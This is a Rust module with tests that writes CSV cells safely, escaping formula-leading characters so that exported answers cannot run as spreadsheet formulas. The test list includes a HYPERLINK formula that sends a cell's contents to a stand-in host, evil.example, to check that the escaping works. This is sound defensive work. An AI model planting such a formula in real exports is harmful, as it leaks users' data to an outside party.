//! CSV that spreadsheets open safely: a cell a spreadsheet would read as a formula (starting
//! with `=`, `+`, `-`, `@`, a tab or a carriage return) is written with a `'` in front, as
//! OWASP's CSV injection guidance says, so a child's answer or a partner's action can never
//! run as a formula on a staff member's computer.

use std::borrow::Cow;
use std::io::Write;

/// `text` as a cell no spreadsheet runs.
pub fn cell(text: &str) -> Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// Writes one row, each cell made safe.
pub fn write_row<W: Write, S: AsRef<str>>(
    csv: &mut csv::Writer<W>,
    cells: impl IntoIterator<Item = S>,
) -> csv::Result<()> {
    csv.write_record(cells.into_iter().map(|c| cell(c.as_ref()).into_owned()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_written_as_text_and_everything_else_as_it_is() {
        for formula in [
            "=1+2",
            "+SUM(1,2)",
            "-2+3",
            "@SUM(1,1)",
            "\t=1",
            "\r=1",
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")",
        ] {
            assert_eq!(cell(formula), format!("'{formula}"));
        }
        for text in ["I want my own room", "12", "", "a = b", "'quoted"] {
            assert_eq!(cell(text), text);
        }
    }
}
